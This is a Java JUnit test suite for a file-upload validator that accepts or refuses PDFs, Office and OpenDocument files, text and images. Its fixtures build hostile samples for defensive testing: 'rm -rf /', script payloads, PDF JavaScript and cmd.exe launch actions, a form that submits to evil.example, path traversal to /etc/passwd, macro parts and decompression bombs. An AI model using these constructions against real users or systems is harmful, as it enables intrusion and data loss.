package tabard.evidence;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;
import static org.junit.jupiter.params.provider.Arguments.arguments;
import static tabard.evidence.TestFiles.bytes;
import static tabard.evidence.TestFiles.deflated;
import static tabard.evidence.TestFiles.docx;
import static tabard.evidence.TestFiles.joined;
import static tabard.evidence.TestFiles.odt;
import static tabard.evidence.TestFiles.office;
import static tabard.evidence.TestFiles.pdf;
import static tabard.evidence.TestFiles.pdfWith;
import static tabard.evidence.TestFiles.photo;
import static tabard.evidence.TestFiles.picture;
import static tabard.evidence.TestFiles.stream;
import static tabard.evidence.TestFiles.written;
import static tabard.evidence.TestFiles.xlsx;
import static tabard.evidence.TestFiles.zip;

import java.awt.image.BufferedImage;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.util.Arrays;
import java.util.Random;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import javax.imageio.ImageIO;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.openpdf.text.pdf.PdfFileSpecification;
import org.openpdf.text.pdf.PdfWriter;
import tabard.evidence.DocumentRefused.Reason;
import tabard.evidence.TestFiles.Part;

/** What a file is, whatever it is called, and why one will not do. */
class FileChecksTests {

    static final FileChecks CHECKS = new FileChecks();
    static final String EXTERNAL = TestFiles.RELATIONS.formatted(
            "<Relationship Id=\"a\" Type=\"http://x/%s\" Target=\"http://evil.example/\" TargetMode=\"External\"/>");

    static Stream<Arguments> good() {
        return Stream.of(
                arguments("a PDF", DocumentType.PDF, pdf()),
                arguments("a PDF of the last page allowed", DocumentType.PDF, pdf(1_000, (_, _) -> {})),
                arguments("a PDF with streams of objects", DocumentType.PDF, packed((_, _) -> {})),
                arguments("a PDF with a link", DocumentType.PDF, pdfWith("/A << /S /URI /URI (https://a.example) >>")),
                arguments("a Word document", DocumentType.DOCX, docx()),
                arguments(
                        "a Word document with a link",
                        DocumentType.DOCX,
                        docx(Part.of("word/_rels/document.xml.rels", EXTERNAL.formatted("hyperlink")))),
                arguments("a workbook", DocumentType.XLSX, xlsx()),
                arguments("OpenDocument text", DocumentType.ODT, odt("<a/>", "<a/>")),
                arguments("text in Welsh", DocumentType.TEXT, bytes("Tŷ Siân, Ŵyr\tun\r\ndau")),
                arguments("comma-separated values", DocumentType.TEXT, bytes("name,number\r\nAnn,1\r\n")));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("good")
    void keepsAsItWasSent(String what, DocumentType type, byte[] sent) {
        var checked = CHECKS.check(sent);

        assertThat(checked.type()).isEqualTo(type);
        assertThat(checked.content()).isEqualTo(sent);
    }

    static Stream<Arguments> refused() {
        return Stream.of(
                arguments("nothing", Reason.EMPTY, new byte[0]),
                arguments("a program for Windows", Reason.TYPE, joined(bytes("MZ"), new byte[200])),
                arguments(
                        "a program for Linux",
                        Reason.TYPE,
                        joined(new byte[] {0x7F, 'E', 'L', 'F', 2, 1, 1}, new byte[99])),
                arguments("a script", Reason.TYPE, bytes("#!/bin/sh\nrm -rf /\n")),
                arguments("a web page", Reason.TYPE, bytes("<!DOCTYPE html><html><script>alert(1)</script></html>")),
                arguments(
                        "a drawing with a script",
                        Reason.TYPE,
                        bytes("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"a()\"/>")),
                arguments(
                        "an old Word document",
                        Reason.TYPE,
                        joined(
                                new byte[] {
                                    (byte) 0xD0,
                                    (byte) 0xCF,
                                    0x11,
                                    (byte) 0xE0,
                                    (byte) 0xA1,
                                    (byte) 0xB1,
                                    0x1A,
                                    (byte) 0xE1
                                },
                                new byte[600])),
                arguments("a GIF", Reason.TYPE, written(picture(5, 5), "gif")),
                arguments("an archive of anything", Reason.TYPE, zip(Part.of("a.exe", "MZ"))),
                arguments(
                        "an archive that is a program for Java",
                        Reason.TYPE,
                        zip(Part.of("META-INF/MANIFEST.MF", "Main-Class: A"))),
                arguments(
                        "text in another encoding", Reason.TYPE, new byte[] {'T', (byte) 0xE9, ' ', 'a', 'b', 'c', '\n'
                        }),
                arguments("text with a null byte", Reason.TYPE, bytes("abc\0def")),
                arguments("text with an escape", Reason.TYPE, bytes("abc\u001b[31mdef")),
                arguments("a PDF that does not begin where it should", Reason.UNREADABLE, joined(bytes("\n\n"), pdf())),
                arguments("half a PDF", Reason.UNREADABLE, bytes("%PDF-1.7\n%âãÏÓ\n")),
                arguments("a PDF and an archive", Reason.TWO_IN_ONE, joined(pdf(), zip(Part.of("a.class", "x")))),
                arguments("an archive and a PDF", Reason.TWO_IN_ONE, docx(Part.of("%PDF-1.7", "x"))),
                arguments(
                        "text and an archive",
                        Reason.TWO_IN_ONE,
                        joined(bytes("text ".repeat(2_000)), zip(Part.of("a", "x")))),
                arguments("text and a PDF", Reason.UNREADABLE, bytes("name,number\n%PDF-1.7 and so on")),
                arguments("a PDF with a password", Reason.ENCRYPTED, locked("in")),
                arguments("a PDF with a password to change it", Reason.ENCRYPTED, locked("")),
                arguments("a PDF with one page too many", Reason.TOO_MANY_PAGES, pdf(1_001, (_, _) -> {})),
                arguments("half a JPEG", Reason.UNREADABLE, Arrays.copyOf(photo(300, 300, 1), 150)),
                arguments("half a PNG", Reason.UNREADABLE, Arrays.copyOf(written(picture(300, 300), "png"), 60)),
                arguments("a picture with too many points", Reason.PICTURE_TOO_LARGE, sized(8_000, 5_001)),
                arguments("a picture too wide", Reason.PICTURE_TOO_LARGE, sized(12_001, 10)),
                arguments(
                        "a picture that says it is enormous",
                        Reason.PICTURE_TOO_LARGE,
                        sized(2_000_000_000, 2_000_000_000)));
    }

    static Stream<Arguments> active() {
        return Stream.of(
                arguments(
                        "a script on opening",
                        Reason.ACTIVE,
                        pdf(1, (writer, _) -> writer.addJavaScript("app.alert(1)"))),
                arguments("a file inside", Reason.ACTIVE, pdf(1, TestFilesInside::attach)),
                arguments(
                        "a script", Reason.ACTIVE, pdfWith("/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>")),
                arguments(
                        "a script in other letters",
                        Reason.ACTIVE,
                        pdfWith("/OpenAction << /S /J#61vaScript /J#53 (a) >>")),
                arguments(
                        "a script one object away",
                        Reason.ACTIVE,
                        pdfWith("/OpenAction 4 0 R", bytes("<< /S 5 0 R /X 1 >>"), bytes("/JavaScript"))),
                arguments("a program", Reason.ACTIVE, pdfWith("/OpenAction << /S /Launch /F (cmd.exe) >>")),
                arguments(
                        "a form that sends",
                        Reason.ACTIVE,
                        pdfWith("/OpenAction 4 0 R", bytes("<< /S /SubmitForm /F (http://evil.example) >>"))),
                arguments(
                        "another file",
                        Reason.ACTIVE,
                        pdfWith("/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\a.pdf) >>")),
                arguments(
                        "a form of XML",
                        Reason.ACTIVE,
                        pdfWith("/AcroForm << /XFA 4 0 R >>", stream("", bytes("<xdp/>")))),
                arguments("a film", Reason.ACTIVE, pdfWith("/X [[<< /Subtype /RichMedia >>]]")),
                arguments(
                        "a script in a stream of objects",
                        Reason.ACTIVE,
                        packed((writer, _) -> writer.addJavaScript("a"))),
                arguments(
                        "a script in a stream of objects that is not listed",
                        Reason.UNREADABLE,
                        pdfWith(
                                "/OpenAction 5 0 R",
                                stream(
                                        "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode",
                                        deflated(bytes("5 0 << /S /JavaScript /JS (a) >>"))))),
                arguments("Word macros", Reason.MACROS, docx(Part.of("word/vbaProject.bin", "x"))),
                arguments(
                        "Word macros by type alone",
                        Reason.MACROS,
                        office(
                                "word/document.xml",
                                "<Override PartName=\"/a\" ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/>")),
                arguments("an embedded program", Reason.MACROS, docx(Part.of("word/embeddings/oleObject1.bin", "x"))),
                arguments("a control", Reason.MACROS, xlsx(Part.of("xl/activeX/activeX1.xml", "<a/>"))),
                arguments("macros of old", Reason.MACROS, xlsx(Part.of("xl/macrosheets/sheet1.xml", "<a/>"))),
                arguments(
                        "a template from elsewhere",
                        Reason.MACROS,
                        docx(Part.of("word/_rels/settings.xml.rels", EXTERNAL.formatted("attachedTemplate")))),
                arguments(
                        "a picture from elsewhere",
                        Reason.MACROS,
                        docx(Part.of("word/_rels/document.xml.rels", EXTERNAL.formatted("image")))),
                arguments(
                        "a type of document of its own",
                        Reason.UNREADABLE,
                        docx(Part.of("word/_rels/a.xml.rels", "<!DOCTYPE a [<!ENTITY b \"c\">]><a/>"))),
                arguments("Word and workbook at once", Reason.TYPE, docx(Part.of("xl/workbook.xml", "<a/>"))),
                arguments(
                        "Basic in OpenDocument",
                        Reason.MACROS,
                        odt("<a/>", "<a/>", Part.of("Basic/Standard/Module1.xml", "x"))),
                arguments(
                        "a listener in OpenDocument", Reason.MACROS, odt("<a/>", "<s:event-listener xmlns:s=\"s\"/>")),
                arguments("a locked OpenDocument", Reason.ENCRYPTED, odt("<m:encryption-data xmlns:m=\"m\"/>", "<a/>")),
                arguments(
                        "an OpenDocument without its text",
                        Reason.UNREADABLE,
                        zip(Part.of("mimetype", DocumentType.ODT.mediaType()))),
                arguments("a path upwards", Reason.UNREADABLE, docx(Part.of("../../etc/passwd", "x"))),
                arguments("a path from the root", Reason.UNREADABLE, docx(Part.of("/etc/passwd", "x"))),
                arguments("an archive that ends in something else", Reason.UNREADABLE, joined(docx(), bytes("more"))),
                arguments("an archive with two lists", Reason.UNREADABLE, hidden()));
    }

    static Stream<Arguments> bombs() {
        return Stream.of(
                arguments(
                        "an archive that unpacks to 201 MB",
                        docx(new Part("word/media/a.bmp", new byte[201 * 1024 * 1024]))),
                arguments(
                        "an archive with a huge list", docx(new Part("word/_rels/a.rels", new byte[33 * 1024 * 1024]))),
                arguments(
                        "an archive of 5,001 parts",
                        docx(IntStream.range(0, 4_998)
                                .mapToObj(i -> Part.of("a/" + i, ""))
                                .toArray(Part[]::new))),
                arguments(
                        "a PDF with a stream of 65 MB",
                        pdfWith("", stream("/Filter /FlateDecode", deflated(new byte[65 * 1024 * 1024])))),
                arguments(
                        "a PDF with a stream of a stream",
                        pdfWith(
                                "",
                                stream(
                                        "/Filter [/FlateDecode /FlateDecode]",
                                        deflated(deflated(new byte[65 * 1024 * 1024]))))),
                arguments(
                        "a PDF with four layers",
                        pdfWith(
                                "",
                                stream(
                                        "/Filter [/FlateDecode]",
                                        deflated(deflated(deflated(deflated(bytes("deep")))))))),
                arguments(
                        "a PDF with 17 MB of objects",
                        pdfWith(
                                "",
                                stream(
                                        "/Type /ObjStm /Filter /FlateDecode",
                                        deflated("1 0 ".repeat(17 * 256 * 1024).getBytes())))),
                arguments(
                        "a PDF whose objects are packed past measuring",
                        pdfWith("", stream("/Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode]", bytes("789c>")))),
                arguments(
                        "the same in other letters",
                        pdfWith("", stream("/Type /Obj#53tm /Filter /LZWDec#6fde", bytes("x")))));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource({"refused", "active"})
    void refuses(String what, Reason reason, byte[] sent) {
        refusedFor(reason, sent);
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("bombs")
    void refusesWhatUnpacksToFarMore(String what, byte[] sent) {
        assertThat(sent.length).isLessThan(FileChecks.MOST_BYTES);
        refusedFor(Reason.TOO_MUCH_INSIDE, sent);
    }

    @Test
    void takes25MegabytesAndNoMore() {
        var text = new byte[25 * 1024 * 1024 + 1];
        Arrays.fill(text, (byte) 'a');

        assertThat(CHECKS.check(Arrays.copyOf(text, 26_214_400)).content()).hasSize(26_214_400);
        refusedFor(Reason.TOO_LARGE, text);
    }

    @Test
    void saysWhatToDo() {
        assertThatExceptionOfType(DocumentRefused.class)
                .isThrownBy(() -> CHECKS.check(new byte[0]))
                .withMessage("The file is empty. Choose another.")
                .returns("document-refused", DocumentRefused::type);
    }

    @Test
    void drawsAPictureAgainWithoutWhatTheCameraAddedAndWhatComesBehindIt() throws IOException {
        var sent = joined(photo(400, 300, 1), bytes("<script>alert(1)</script>"), zip(Part.of("a", "x")));

        var kept = CHECKS.check(sent);

        assertThat(kept.type()).isEqualTo(DocumentType.JPEG);
        assertThat(new String(kept.content(), java.nio.charset.StandardCharsets.ISO_8859_1))
                .doesNotContain("Exif", "GPS", "script", "PK");
        assertThat(read(kept).getWidth()).isEqualTo(400);
    }

    @Test
    void keepsWhatIsTransparentInAPng() throws IOException {
        var image = new BufferedImage(20, 10, BufferedImage.TYPE_INT_ARGB);
        image.setRGB(3, 4, 0x80123456);

        assertThat(read(CHECKS.check(written(image, "png"))).getRGB(3, 4)).isEqualTo(0x80123456);
    }

    /** The picture has one black quarter: at the upper left as it was held, elsewhere until it is turned. */
    @ParameterizedTest
    @CsvSource({
        "1, 400, 200, 0, 0", "2, 400, 200, 1, 0", "3, 400, 200, 1, 1", "4, 400, 200, 0, 1",
        "5, 200, 400, 0, 0", "6, 200, 400, 1, 0", "7, 200, 400, 1, 1", "8, 200, 400, 0, 1"
    })
    void turnsAPictureTheRightWayUp(int orientation, int width, int height, int right, int low) throws IOException {
        var upright = read(CHECKS.check(photo(400, 200, orientation)));

        assertThat(upright.getWidth()).isEqualTo(width);
        assertThat(upright.getHeight()).isEqualTo(height);
        for (int x = 0; x < 2; x++) {
            for (int y = 0; y < 2; y++) {
                int light = upright.getRGB(width / 4 + x * width / 2, height / 4 + y * height / 2) & 0xFF;
                assertThat(light < 128).as("%d %d", x, y).isEqualTo(x == right && y == low);
            }
        }
    }

    @ParameterizedTest
    @ValueSource(ints = {0, 9, 200})
    void leavesAPictureAsItIsWhereItSaysNothingPossible(int orientation) throws IOException {
        assertThat(read(CHECKS.check(photo(400, 200, orientation))).getWidth()).isEqualTo(400);
    }

    /** Whatever is broken in a good file, the answer is a document or a refusal, and nothing else. */
    @ParameterizedTest
    @MethodSource("good")
    void answersWhateverIsBroken(String what, DocumentType type, byte[] sent) {
        var random = new Random(what.hashCode());
        for (int i = 0; i < 60 && sent.length < 100_000; i++) {
            var broken = sent.clone();
            for (int j = 0; j < 8; j++) {
                broken[random.nextInt(broken.length)] = (byte) random.nextInt();
            }
            var cut = Arrays.copyOf(broken, 1 + random.nextInt(broken.length));
            try {
                assertThat(CHECKS.check(i % 2 == 0 ? broken : cut)).isNotNull();
            } catch (DocumentRefused refused) {
                assertThat(refused.reason()).isNotNull();
            }
        }
    }

    private static void refusedFor(Reason reason, byte[] sent) {
        assertThatExceptionOfType(DocumentRefused.class)
                .isThrownBy(() -> CHECKS.check(sent))
                .returns(reason, DocumentRefused::reason);
    }

    private static BufferedImage read(CheckedFile kept) throws IOException {
        return ImageIO.read(new ByteArrayInputStream(kept.content()));
    }

    private static byte[] packed(TestFiles.More more) {
        return pdf(3, (writer, document) -> {
            writer.setFullCompression();
            more.to(writer, document);
        });
    }

    private static byte[] locked(String toOpen) {
        var out = new java.io.ByteArrayOutputStream();
        var document = new org.openpdf.text.Document();
        var writer = PdfWriter.getInstance(document, out);
        writer.setEncryption(bytes(toOpen), bytes("owner"), PdfWriter.ALLOW_PRINTING, PdfWriter.ENCRYPTION_AES_128);
        document.open();
        document.add(new org.openpdf.text.Paragraph("x"));
        document.close();
        return out.toByteArray();
    }

    /** A PNG that says it has this size, and holds next to nothing. */
    private static byte[] sized(int width, int height) {
        var png = written(picture(10, 10), "png");
        var sized = java.nio.ByteBuffer.wrap(png.clone()).putInt(16, width).putInt(20, height);
        var checksum = new java.util.zip.CRC32();
        checksum.update(sized.array(), 12, 17);
        return sized.putInt(29, (int) checksum.getValue()).array();
    }

    /** A part along the way that the list at the end does not have. */
    private static byte[] hidden() {
        var shown = docx();
        var more = docx(Part.of("word/vba.bin", "x"));
        int list = java.nio.ByteBuffer.wrap(shown)
                .order(java.nio.ByteOrder.LITTLE_ENDIAN)
                .getInt(shown.length - 6);
        int listOfMore = java.nio.ByteBuffer.wrap(more)
                .order(java.nio.ByteOrder.LITTLE_ENDIAN)
                .getInt(more.length - 6);
        var end = java.nio.ByteBuffer.wrap(shown.clone()).order(java.nio.ByteOrder.LITTLE_ENDIAN);
        end.putInt(shown.length - 6, listOfMore);
        return joined(Arrays.copyOf(more, listOfMore), Arrays.copyOfRange(end.array(), list, shown.length));
    }

    /** Files inside a PDF. */
    static final class TestFilesInside {

        private TestFilesInside() {}

        static void attach(PdfWriter writer, org.openpdf.text.Document document) throws IOException {
            writer.addFileAttachment("a", PdfFileSpecification.fileEmbedded(writer, null, "a.exe", bytes("MZ")));
        }
    }
}
